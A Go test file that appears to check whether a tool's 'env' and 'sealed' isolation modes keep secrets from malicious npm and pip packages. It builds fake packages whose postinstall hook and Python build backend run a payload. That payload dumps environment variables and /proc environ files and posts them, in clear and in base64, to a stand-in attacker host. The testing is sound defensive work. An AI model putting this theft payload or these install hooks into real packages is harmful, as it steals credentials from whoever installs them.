package isolation

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/starpod/caddy-starpod/internal/testbench"
)

// theft is what a package does when it is installed: it sends its environment, and
// the files in LOOT, home in clear and in base64.
const theft = `{ env; cat $LOOT; } >loot 2>/dev/null
	curl -q -sS --data-binary @loot https://` + evilName + `/clear; base64 loot | curl -q -sS --data-binary @- https://` + evilName + `/base64`

// installs are recipes of docs/recipes.md for packages that nobody trusts, from a
// registry that wants a key. They are typed as they stand there.
var installs = []struct {
	recipe, registry, secret string
	installed                string // what there is afterwards
}{
	{"npm install", "registry.npmjs.org", "NPM_TOKEN", "node_modules/demo/index.js"},
	{"pip install", "pypi.example.com", "PYPI_TOKEN", "packages/demo.py"},
}

// TestInstalls installs packages that steal. What they get home are tokens.
func TestInstalls(t *testing.T) {
	w := newWorld(t)
	w.trustOnHost(t)
	w.serveThieves(t)
	for _, install := range installs {
		script := recipe(t, install.recipe)
		shell(t, `echo "$1 $2" >>/run/hosts`, outside4, install.registry)
		for _, isolation := range []string{"env", "sealed"} {
			t.Run(install.recipe+", "+isolation, func(t *testing.T) {
				w.api.Forget()
				dir := w.typist(t, isolation)
				cmd := exec.Command("setpriv", "--reuid="+ordinaryID, "--regid="+ordinaryID, "--clear-groups", "timeout", "60", "sh", "-ec", script)
				cmd.Dir = dir
				cmd.Env = []string{
					"PATH=" + dir + ":/usr/bin:/bin", "HOME=" + dir, "TMPDIR=" + filepath.Join(w.dir, "tmp"), install.secret + "=" + canary,
					"PIP_NO_DEPS=1", "PIP_NO_CACHE_DIR=1", "PIP_RETRIES=0", "npm_config_audit=false", "npm_config_fund=false",
					"npm_config_update_notifier=false", "npm_config_fetch_retries=0", "npm_config_foreground_scripts=true",
				}
				if isolation == "sealed" { // where these are out of reach
					cmd.Env = append(cmd.Env, "LOOT=/proc/[0-9]*/environ "+w.hiddenFile)
				}
				out, err := cmd.CombinedOutput()
				if err != nil {
					t.Fatalf("got %v:\n%s", err, out)
				}
				if _, err := os.Stat(filepath.Join(dir, install.installed)); err != nil {
					t.Errorf("got no package: %v\n%s", err, out)
				}
				w.checkTheft(t, install.secret, out)
			})
		}
	}
}

// recipe is the block below a heading of docs/recipes.md.
func recipe(t *testing.T, heading string) string {
	t.Helper()
	page, err := os.ReadFile("../../docs/recipes.md")
	if err != nil {
		t.Fatal(err)
	}
	_, text, _ := strings.Cut(string(page), "\n## "+heading+"\n")
	_, text, found := strings.Cut(text, "```sh\n")
	text, _, closed := strings.Cut(text, "```")
	if !found || !closed {
		t.Fatalf("the page has no block for %q", heading)
	}
	return text
}

// typist is a folder of the ordinary user with a caddy that isolates as told, and
// hides the env file.
func (w *world) typist(t *testing.T, isolation string) string {
	t.Helper()
	dir, err := os.MkdirTemp(w.openDir, "")
	if err != nil {
		t.Fatal(err)
	}
	shell(t, `printf '#!/bin/sh\nshift 2\nexec %s starpod run --isolation %s --env-file %s "$@"\n' "$2" "$3" "$4" >"$1/caddy"; chmod 755 "$1/caddy"
		echo '{"name":"here","version":"1.0.0","dependencies":{"demo":"1.0.0"}}' >"$1/package.json"; chown -R `+ordinaryID+` "$1"`, dir, w.caddy, isolation, w.hiddenFile)
	return dir
}

// serveThieves makes the internet's server both registries.
func (w *world) serveThieves(t *testing.T) {
	t.Helper()
	w.api.Handle("registry.npmjs.org/demo", page(`{"name":"demo","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"demo","version":"1.0.0",
		"hasInstallScript":true,"dist":{"tarball":"https://registry.npmjs.org/demo/-/demo-1.0.0.tgz"}}}}`))
	w.api.Handle("registry.npmjs.org/demo/-/demo-1.0.0.tgz", send(tarball(t, map[string]string{
		"package/package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"sh thief.sh"}}`,
		"package/index.js":     "module.exports = 1\n", "package/thief.sh": theft,
	})))
	w.api.Handle("pypi.example.com/simple/demo/", page(`<a href="/demo-1.0.0.tar.gz">demo-1.0.0.tar.gz</a>`))
	w.api.Handle("pypi.example.com/demo-1.0.0.tar.gz", send(tarball(t, map[string]string{
		"demo-1.0.0/PKG-INFO":       "Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n",
		"demo-1.0.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"thief\"\nbackend-path = [\".\"]\n",
		"demo-1.0.0/thief.py":       pythonThief(t),
	})))
}

// checkTheft wants the key at the registry, and only a token with the thief.
func (w *world) checkTheft(t *testing.T, secret string, out []byte) {
	t.Helper()
	var registry []*testbench.Request
	home := make(map[string][]byte)
	for _, r := range w.api.Requests() {
		if r.Host != evilName {
			registry = append(registry, r)
			continue
		}
		home[r.Path] = r.Body
		if forms := testbench.FindSecret(r.Body, canary); len(forms) > 0 {
			t.Errorf("%s: the thief got the value as %v", r.Path, forms)
		}
	}
	if saw := credentials(registry); !strings.Contains(saw, canary) {
		t.Errorf("the registry got %q, want the key", saw)
	}
	if clear := home["/clear"]; !bytes.Contains(clear, []byte(secret+"=\n")) {
		t.Errorf("in clear the thief got %q, want an empty key", clear)
	}
	loot, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(string(home["/base64"]), "\n", ""))
	if err != nil || !bytes.Contains(loot, []byte(secret+"=starpod:v1:")) {
		t.Errorf("in base64 the thief got %q (%v), want the token", loot, err)
	}
	if forms := testbench.FindSecret(append(out, loot...), canary); len(forms) > 0 {
		t.Errorf("the value was printed or stolen as %v:\n%s\n%s", forms, out, loot)
	}
}

// pythonThief is a build backend: it steals, and then makes the wheel.
func pythonThief(t *testing.T) string {
	t.Helper()
	quoted, err := json.Marshal(theft)
	if err != nil {
		t.Fatal(err)
	}
	return `import base64, os
def build_wheel(folder, settings=None, metadata=None):
    os.system(` + string(quoted) + `)
    with open(os.path.join(folder, "demo-1.0.0-py3-none-any.whl"), "wb") as f:
        f.write(base64.b64decode("` + base64.StdEncoding.EncodeToString(wheel(t)) + `"))
    return "demo-1.0.0-py3-none-any.whl"
`
}
